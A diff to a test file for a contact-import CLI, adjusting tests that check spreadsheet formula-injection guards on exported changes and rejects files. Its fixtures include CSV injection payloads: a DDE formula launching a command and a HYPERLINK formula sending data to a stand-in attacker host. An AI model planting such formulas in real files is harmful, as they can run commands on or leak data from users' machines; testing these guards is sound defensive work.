@@ -90,7 +90,7 @@ test('--format csv guards formula cells (phones too) unless --csv-raw; the CSV r
   assert.deepEqual(byPhone(other.contacts() as never), byPhone(sb.contacts() as never));
 });
 
-test('the rejects file and the changes file carry the guard too, and re-import as the values they held', async (t) => {
+test('the changes file carries the guard, the rejects file keeps the rows as read, and both re-import as the values they held', async (t) => {
   const { sb, env } = await hostileContact(t);
   const dir = tempDir(t);
   const file = join(dir, 'leads.csv');
@@ -102,8 +102,9 @@ test('the rejects file and the changes file carry the guard too, and re-import a
   assert.ok(changes.includes(`,firstName,${HOSTILE.firstName},'=cmd|' /C calc'!A0\n`), changes);
   assert.ok(changes.includes(`,notes,"'=HYPERLINK(""http://evil.example/?leak"",""click me"")",'-rename\n`), changes);
   const rejects = readFileSync(s.rejectsFile, 'utf8');
-  assert.match(rejects, /Bad,12,'@bad,/);
-  // Fixed and fed back: the guard comes off, the rest is read as written.
+  // The operator's own cells as they were read: only callctl's `error` text would be guarded.
+  assert.match(rejects, /\nBad,12,@bad,/);
+  // Fixed and fed back: read as written.
   writeFileSync(join(dir, 'fixed.csv'), rejects.replace('Bad,12,', 'Bad,+447400100999,'));
   const again = await runCli(['import', join(dir, 'fixed.csv'), '--json', '--rejects', join(dir, 'again.csv')], { env, cwd: dir });
   assert.equal(again.code, 0, again.stderr);
